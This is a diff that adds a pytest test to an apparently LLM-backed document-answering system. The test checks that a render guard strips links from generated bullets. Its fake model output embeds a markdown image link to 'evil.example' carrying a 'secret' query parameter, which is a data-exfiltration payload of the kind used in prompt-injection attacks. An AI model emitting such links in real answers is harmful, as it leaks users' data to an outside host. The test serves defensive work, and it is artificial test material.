@@ -256,3 +256,24 @@ def test_repeated_bullets_are_shown_once(demo_store: Store) -> None:
     )
     assert isinstance(done, Completed) and len(done.sections[0].bullets) == 1
     assert [i.reason for i in trace.interventions if i.guard == "grounding"] == ["repeats an earlier bullet"] * 2
+
+
+def test_links_in_bullets_are_never_rendered(demo_store: Store) -> None:
+    def exfiltrates(prompt: str) -> dict[str, Any]:
+        contexts = field(prompt, "sections_context")
+        first = contexts[0]["chunks"][0]
+        words = " ".join(first["text"].split()[:8])
+        bullet = {
+            "text": f"{words} ![i](http://evil.example/?d=secret) [more](https://evil.example)",
+            "citations": [{"filename": first["filename"], "page": first["page"]}],
+        }
+        return {"sections": [{"sub_question_index": 0, "bullets": [bullet]}]}
+
+    done, trace = _run(
+        demo_store,
+        _override("sections_context", exfiltrates, cooperative(["What is the rent?"])),
+        property_ref="Banda Lane",
+    )
+    assert isinstance(done, Completed) and done.sections[0].status == "answered"
+    assert "http" not in done.answer and "evil" not in done.answer
+    assert {i.reason.split(":")[0] for i in trace.interventions if i.guard == "render"} == {"image", "link"}
